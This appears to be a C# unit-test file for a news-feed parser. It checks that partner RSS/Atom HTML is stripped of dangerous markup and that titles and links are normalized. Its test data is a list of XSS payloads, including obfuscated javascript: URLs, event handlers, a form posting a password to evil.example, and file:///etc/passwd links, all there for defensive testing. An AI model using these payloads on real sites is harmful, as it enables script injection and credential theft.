using static NewsFeed.Tests.Partners.Parsing.PartnerFeeds;

namespace NewsFeed.Tests.Partners.Parsing;

/// <summary>Partner HTML goes through an allow-list; titles are plain text; links are http(s) only.</summary>
public class SanitizingTests
{
    [Theory]
    [InlineData("<p>ok</p><script>alert(1)</script>", "script")]
    [InlineData("<p>ok</p><SCRIPT SRC=//evil.example/x.js></SCRIPT>", "evil")]
    [InlineData("<p>ok</p><img src=\"https://p.example/a.png\" onerror=\"alert(1)\">", "onerror")]
    [InlineData("<p onclick=\"alert(1)\" onmouseover='x()'>ok</p>", "on")]
    [InlineData("<p>ok</p><svg onload=alert(1)><circle/></svg>", "onload")]
    [InlineData("<a href=\"javascript:alert(1)\">ok</a>", "javascript")]
    [InlineData("<a href=\"JaVaScRiPt:alert(1)\">ok</a>", "script:")]
    [InlineData("<a href=\"&#106;&#97;vascript:alert(1)\">ok</a>", "vascript")]
    [InlineData("<a href=\"&#x6A;avascript&#x3A;alert(1)\">ok</a>", "vascript")]
    [InlineData("<a href=\"java\tscript:alert(1)\">ok</a>", "script:")]
    [InlineData("<a href=\"java&#x0A;script:alert(1)\">ok</a>", "script:")]
    [InlineData("<a href=\" \u0001javascript:alert(1)\">ok</a>", "script:")]
    [InlineData("<a href=\"vbscript:msgbox(1)\">ok</a>", "vbscript")]
    [InlineData("<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">ok</a>", "data:")]
    [InlineData("<p>ok</p><img src=\"data:image/svg+xml;base64,PHN2Zz4=\">", "data:")]
    [InlineData("<p>ok</p><iframe src=\"https://evil.example/\"></iframe>", "iframe")]
    [InlineData("<p>ok</p><meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\">", "refresh")]
    [InlineData("<div style=\"width: expression(alert(1))\">ok</div>", "expression")]
    [InlineData("<div style=\"background:url(javascript:alert(1))\">ok</div>", "javascript")]
    [InlineData("<p>ok</p><style>body{background:url(https://evil.example/t)}</style>", "evil")]
    [InlineData("<p>ok</p><object data=\"https://evil.example/x.swf\"></object><embed src=\"https://evil.example/y\">", "evil")]
    [InlineData("<p>ok</p><form action=\"https://evil.example/steal\"><input name=\"password\"><button>ok</button></form>", "evil")]
    [InlineData("<p>ok</p><base href=\"https://evil.example/\"><link rel=\"stylesheet\" href=\"https://evil.example/s.css\">", "evil")]
    [InlineData("<p>ok</p><img srcset=\"javascript:alert(1) 1x, https://p.example/b.png 2x\">", "javascript")]
    public void Parse_DangerousHtml_IsRemovedAndTheRestKept(string html, string forbidden)
    {
        var content = Content(html);

        Assert.DoesNotContain(forbidden, content, StringComparison.OrdinalIgnoreCase);
        Assert.DoesNotContain("alert", content, StringComparison.OrdinalIgnoreCase);
        Assert.Contains("ok", content, StringComparison.Ordinal);
    }

    [Fact]
    public void Parse_SafeHtml_IsKeptWithRelativeUrlsResolved()
    {
        var content = Content("<figure><img src=\"/media/a.jpg\" alt=\"A\"><figcaption>Cap</figcaption></figure><p><a href=\"../about\">About</a> <em>x</em></p>");

        Assert.Equal("<figure><img src=\"https://partner.example.org/media/a.jpg\" alt=\"A\"><figcaption>Cap</figcaption></figure><p><a href=\"https://partner.example.org/about\">About</a> <em>x</em></p>", content);
    }

    [Fact]
    public void Parse_ContentThatIsOnlyDangerous_LeavesNoContent()
    {
        var item = RssItem("<title>t</title><content:encoded><![CDATA[<script>alert(1)</script>]]></content:encoded>");

        Assert.Null(item.ContentHtml);
    }

    [Fact]
    public void Parse_HtmlEscapedMarkupInTitle_BecomesPlainText()
    {
        var item = RssItem("<title>&lt;b&gt;Breaking&lt;/b&gt;:   rates\n\t &lt;script&gt;alert(1)&lt;/script&gt;rise &amp;amp; fall</title>");

        Assert.Equal("Breaking: rates rise & fall", item.Title);
    }

    [Fact]
    public void Parse_CDataMarkupInTitle_BecomesPlainText()
    {
        var item = RssItem("<title><![CDATA[<em>Hello</em> &amp; <img src=x onerror=alert(1)>world]]></title>");

        Assert.Equal("Hello & world", item.Title);
    }

    [Theory]
    [InlineData("javascript:alert(1)")]
    [InlineData(" JAVASCRIPT:alert(1)")]
    [InlineData("&#106;avascript:alert(1)")]
    [InlineData("java&#9;script:alert(1)")]
    [InlineData("data:text/html,hi")]
    [InlineData("vbscript:x")]
    [InlineData("ftp://p.example/file")]
    [InlineData("file:///etc/passwd")]
    public void Parse_NonHttpItemLinkAndImage_AreDropped(string url)
    {
        var item = RssItem($"<title>t</title><link>{url}</link><enclosure url=\"{url}\" type=\"image/png\" length=\"1\"/>");

        Assert.Null(item.Url);
        Assert.Null(item.ImageUrl);
    }

    [Fact]
    public void Parse_RelativeAndPaddedLinks_ResolvedAgainstTheDocument()
    {
        var feed = Parse(Rss(
            "<title>a</title><link>\n   /stories/a.html  \n</link><enclosure url=\"img/a.jpg\" type=\"image/jpeg\" length=\"10\"/>",
            "<title>b</title><link>//cdn.partner.example.org/b</link>"));

        Assert.Equal("https://partner.example.org/stories/a.html", feed.Items[0].Url);
        Assert.Equal("https://partner.example.org/feeds/img/a.jpg", feed.Items[0].ImageUrl);
        Assert.Equal("https://cdn.partner.example.org/b", feed.Items[1].Url);
    }

    [Fact]
    public void Parse_XmlBaseWithOtherScheme_IsIgnored()
    {
        var feed = Parse("""
            <feed xmlns="http://www.w3.org/2005/Atom" xml:base="file:///etc/">
              <entry><id>1</id><title>t</title><link href="passwd"/></entry>
            </feed>
            """);

        Assert.Equal("https://partner.example.org/feeds/passwd", Assert.Single(feed.Items).Url);
    }
}
